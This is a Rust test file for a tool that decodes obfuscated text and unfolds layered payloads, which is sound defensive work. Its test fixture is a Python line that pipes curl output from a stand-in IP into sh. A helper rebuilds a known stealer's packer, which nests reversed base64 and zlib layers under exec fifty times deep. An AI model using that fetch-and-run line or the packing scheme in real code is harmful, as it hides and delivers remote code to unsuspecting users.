use std::io::Write;
use std::time::Instant;

use super::*;

fn best(text: &str) -> (String, String) {
    best_of(text.as_bytes(), &Limits::USUAL)
}

fn best_of(bytes: &[u8], limits: &Limits) -> (String, String) {
    let found = propose(bytes, limits, &|| false);
    let first = found.proposals.first().expect("nothing proposed");
    (recipe(&first.chain).join(" > "), String::from_utf8_lossy(&first.bytes).into_owned())
}

fn base64(bytes: &[u8]) -> String {
    decode::to_base64(bytes)
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const CODE: &str = "import os\nos.system('curl http://203.0.113.9/x | sh')\n";

#[test]
fn text_in_characters_that_are_not_drawn_is_proposed() {
    let selectors: String = CODE
        .bytes()
        .map(u32::from)
        .filter_map(|byte| char::from_u32(if byte < 16 { 0xFE00 + byte } else { 0xE0100 + byte - 16 }))
        .collect();
    assert_eq!(best(&format!("decode('😀{selectors}')")), ("invisible".to_owned(), CODE.to_owned()));
    // Emoji with their selectors, and a flag, hide nothing.
    let honest = format!("{} \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "❤\u{FE0F} ".repeat(40));
    let found = propose(honest.as_bytes(), &Limits::USUAL, &|| false);
    assert!(found.proposals.iter().all(|proposal| !proposal.chain.contains(&Decoder::Invisible)));
}

#[rstest::rstest]
#[case(Decoder::Base64, "data:text/plain;base64,aGk=", "hi")]
#[case(Decoder::Base32, "NBUQ====", "hi")]
#[case(Decoder::Base85, "Xk~0{Zv", "hello")]
#[case(Decoder::Ascii85, "<~BOu!rDZ~>", "hello")]
#[case(Decoder::Hex, "68:69", "hi")]
#[case(Decoder::Hex, r"\x68\x69", "hi")]
#[case(Decoder::Hex, "0x68, 0x69", "hi")]
#[case(Decoder::Url, "%68i%21", "hi!")]
#[case(Decoder::Escapes, r"\x68\u0069\41\u{21}", "hi!!")]
#[case(Decoder::Codes(10), "String.fromCharCode(104, 0x69)", "hi")]
#[case(Decoder::Codes(10), "chr(104)+chr(233)+chr(8364)", "hé€")]
#[case(Decoder::Codes(16), "68 69", "hi")]
#[case(Decoder::Codes(8), "150,151", "hi")]
#[case(Decoder::Codes(2), "01101000 01101001", "hi")]
#[case(Decoder::Entities, "&#104;&#x69;&amp;&nosuch;", "hi&&nosuch;")]
#[case(Decoder::Rot(13), "uv", "hi")]
#[case(Decoder::Rot(25), "ij", "hi")]
#[case(Decoder::Xor(vec![1, 2]), "ik", "hi")]
#[case(Decoder::Reverse, "é!ih", "hi!é")]
#[case(Decoder::Utf16, "h\0i\0", "hi")]
#[case(Decoder::Invisible, "a\u{E0158}b\u{E0159}\u{FE0A}", "hi\n")]
#[case(Decoder::Invisible, "\u{FE0F}\u{E0068}\u{E0069}", "hi")]
#[case(Decoder::Literal, "b'h' \\\n  'i'", "hi")]
#[case(Decoder::Literal, r#"["\x68", 'i'].join("")"#, "hi")]
#[case(Decoder::Literal, r"''.join(['h', r'\n', '\n'])", "h\\n\n")]
#[case(Decoder::Longest, "x = 'short'; run('a much longer ' + 'string')", "a much longer string")]
fn each_decoder_undoes_its_encoding(#[case] decoder: Decoder, #[case] given: &str, #[case] plain: &str) {
    let out = decoder.apply(given.as_bytes()).unwrap();
    assert_eq!(String::from_utf8_lossy(&out), plain);
    let again: Decoder = decoder.to_string().parse().unwrap();
    assert_eq!(again, decoder);
}

#[rstest::rstest]
#[case(Decoder::Base64, "aGk!", "not base64: byte 3 is 0x21")]
#[case(Decoder::Hex, "686", "not hex: the digits do not come out even")]
#[case(Decoder::Zlib, "plain", "not zlib, damaged, or more than 16 MB inside")]
#[case(Decoder::Xor(Vec::new()), "x", "type a key: xor KEY, or xor 0x5a")]
#[case(Decoder::Literal, "run('x')", "not only string literals")]
#[case(Decoder::Literal, "['a', 'b'].join('-')", "not only string literals")]
#[case(Decoder::Codes(10), "none", "no numbers in it")]
fn what_does_not_fit_is_said(#[case] decoder: Decoder, #[case] given: &str, #[case] why: &str) {
    assert_eq!(decoder.apply(given.as_bytes()).unwrap_err().to_string(), why);
}

#[test]
fn keys_are_typed_as_text_or_hexadecimal() {
    assert_eq!("xor key 1".parse(), Ok(Decoder::Xor(b"key 1".to_vec())));
    assert_eq!("XOR 0x5aFF".parse(), Ok(Decoder::Xor(vec![0x5a, 0xff])));
    assert_eq!("rot 5".parse(), Ok(Decoder::Rot(5)));
    for odd in ["xor", "xor 0x5", "rot", "rot 26", "rot x", "base63"] {
        assert!(odd.parse::<Decoder>().is_err(), "{odd}");
    }
}

#[test]
fn compressed_bytes_are_read_by_the_decoder_of_their_kind() {
    let deflated = zlib(CODE.as_bytes());
    assert_eq!(Decoder::Zlib.apply(&deflated).unwrap(), CODE.as_bytes());
    assert_eq!(Decoder::Deflate.apply(&deflated[2..deflated.len() - 4]).unwrap(), CODE.as_bytes());
    assert!(Decoder::Gzip.apply(&deflated).is_err());
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    bomb.write_all(&vec![0; 17 << 20]).unwrap();
    assert!(Decoder::Gzip.apply(&bomb.finish().unwrap()).is_err());
}

#[test]
fn what_fits_is_proposed_best_first() {
    assert_eq!(best(&base64(CODE.as_bytes())), ("base64".to_owned(), CODE.to_owned()));
    let hex = crate::text::hex(CODE.as_bytes());
    assert_eq!(best(&hex).0, "hex");
    let nested = base64(&zlib(CODE.as_bytes())).chars().rev().collect::<String>();
    assert_eq!(best(&nested), ("reverse > base64 > zlib".to_owned(), CODE.to_owned()));
    assert_eq!(best(&format!("'{nested}'")).0, "literal > reverse > base64 > zlib");
    let codes: Vec<String> = CODE.bytes().map(|b| b.to_string()).collect();
    assert_eq!(best(&format!("String.fromCharCode({})", codes.join(","))), ("codes".to_owned(), CODE.to_owned()));
    let escaped: String = CODE.bytes().map(|b| format!("\\x{b:02x}")).collect();
    assert_eq!(best(&format!("\"{escaped}\"")).1, CODE);
    assert_eq!(best(&decode::rot13(CODE)).1, CODE);
    let percent: String = CODE.bytes().map(|b| format!("%{b:02x}")).collect();
    assert_eq!(best(&percent).0, "url");
}

#[rstest::rstest]
#[case::list("[104, 116, 116, 112, 115, 58, 47]", "codes", "https:/")]
#[case::two("104,116", "codes", "ht")]
#[case::hexadecimal("0x68 0x74 0x74 0x70", "hex", "http")]
#[case::octal(r"\150\164\164\160", "escapes", "http")]
#[case::octal_two(r"\150\164", "escapes", "ht")]
#[case::line("const host = [104, 116, 116, 112, 115, 58, 47, 47, 97];", "codes", "https://a")]
#[case::line_with_more("var a2 = String.fromCharCode(104,116,116,112), b = 3", "codes", "http")]
#[case::line_with_quotes("p = ''.join(chr(c) for c in [105, 109, 112, 111, 114, 116])", "codes", "import")]
#[case::line_of_hexadecimals("let t = [0x68,0x74,0x74,0x70].map(f).join('')", "codes", "http")]
#[case::literal("'104 116 116 112 115 58 47 47 97'", "literal > codes", "https://a")]
#[case::line_of_calls("x = chr(104) + chr(116) + chr(116) + chr(112) # see 17", "codes", "http")]
fn numbers_of_characters_are_proposed_first(#[case] given: &str, #[case] how: &str, #[case] out: &str) {
    assert_eq!(best(given), (how.to_owned(), out.to_owned()));
}

#[test]
fn numbers_that_are_no_characters_are_not_proposed_in_code() {
    for code in ["w = {60, 48, 12, 7, 90}; resize(w)", "for (let i = 0; i < 10; i += 2) { run(i, 3) }"] {
        let found = propose(code.as_bytes(), &Limits::USUAL, &|| false);
        assert!(!found.proposals.iter().any(|p| recipe(&p.chain) == ["codes"]), "{found:?}");
    }
}

#[test]
fn a_wrapped_string_is_followed_into_the_code_that_holds_it() {
    let code = format!(
        "exec(__import__('zlib').decompress(__import__('base64').b64decode('{}')))",
        base64(&zlib(CODE.as_bytes()))
    );
    assert_eq!(best(&code), ("longest string > base64 > zlib".to_owned(), CODE.to_owned()));
}

#[test]
fn brute_force_is_off_until_asked_for() {
    let hidden: Vec<u8> = CODE.bytes().map(|b| b ^ 0xa7).collect();
    let usual = propose(&hidden, &Limits::USUAL, &|| false);
    assert!(usual.proposals.iter().all(|p| *p.bytes != *CODE.as_bytes()));
    assert_eq!(best_of(&hidden, &Limits::BRUTE), ("xor 0xa7".to_owned(), CODE.to_owned()));
    let turned = decode::rot(CODE, 7);
    assert_eq!(best_of(turned.as_bytes(), &Limits::BRUTE), ("rot 19".to_owned(), CODE.to_owned()));
}

#[test]
fn plain_code_and_noise_get_no_bold_proposals() {
    let own = score::full(CODE.as_bytes()).value;
    for proposal in propose(CODE.as_bytes(), &Limits::USUAL, &|| false).proposals {
        assert!(proposal.score < own, "{proposal:?}");
    }
    let noise: Vec<u8> = (0_u32..4000).map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap()).collect();
    for proposal in propose(&noise, &Limits::USUAL, &|| false).proposals {
        assert!(proposal.score < 0.3, "{proposal:?}");
    }
}

#[test]
fn a_bound_that_was_hit_is_said() {
    let limits = Limits { tries: 2, ..Limits::USUAL };
    let found = propose(base64(&zlib(CODE.as_bytes())).as_bytes(), &limits, &|| false);
    assert_eq!(found.stopped.as_deref(), Some("stopped after 2 tries"));
    let mut text = CODE.to_owned();
    for _ in 0..5 {
        text = base64(text.as_bytes());
    }
    let found = propose(text.as_bytes(), &Limits { depth: 4, ..Limits::USUAL }, &|| false);
    assert_eq!(found.stopped.as_deref(), Some("stopped after 4 decoders in a row"));
}

/// What a published stealer did: code that decodes a reversed base64 string of compressed code, many times over.
fn nest(layers: usize, inner: &str) -> String {
    (0..layers).fold(inner.to_owned(), |inner, _| {
        let packed: String = base64(&zlib(inner.as_bytes())).chars().rev().collect();
        format!("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{packed}'))")
    })
}

#[test]
fn fifty_layers_unfold_in_less_than_a_second() {
    // Enough of it, and not too easy to compress.
    let inner: String = (0_u32..400).map(|n| format!("step_{}(os, {})\n", n.wrapping_mul(2_654_435_761), n)).collect();
    let inner = format!("{CODE}{inner}");
    let text = nest(50, &inner);
    let started = Instant::now();
    let (layers, stopped) = unfold(text.as_bytes(), &|| false);
    let took = started.elapsed();
    assert_eq!((layers.len(), stopped), (50, None));
    assert_eq!(&*layers[49].bytes, inner.as_bytes());
    assert_eq!(recipe(&layers[7].chain), ["reverse", "base64", "zlib"]);
    let span = layers[1].span.unwrap();
    let before = std::str::from_utf8(&layers[0].bytes).unwrap();
    assert!(before[span.start..span.end].starts_with("b'") && before[..span.start].ends_with("exec((_)("));
    // An unoptimised build is not what is promised.
    let most = if cfg!(debug_assertions) { 5.0 } else { 1.0 };
    assert!(took.as_secs_f32() < most, "{took:?}");
}

#[test]
fn a_nest_without_code_between_is_one_layer() {
    let text = (0..50).fold(CODE.to_owned(), |inner, _| base64(&zlib(inner.as_bytes())).chars().rev().collect());
    let (layers, _) = unfold(text.as_bytes(), &|| false);
    assert_eq!((layers.len(), layers[0].chain.len()), (1, 150));
    assert_eq!(&*layers[0].bytes, CODE.as_bytes());
}

#[test]
fn hostile_bytes_end_nothing() {
    let inputs: [&[u8]; 8] = [b"", b"'", b"\\", b"''''''", b"%", b"&#;&#x110000;", b"\xff\xfe\0", b"x\\"];
    for input in inputs {
        for decoder in Decoder::all() {
            let _ = decoder.apply(input);
        }
        let _ = propose(input, &Limits::BRUTE, &|| false);
        let _ = unfold(input, &|| false);
    }
}
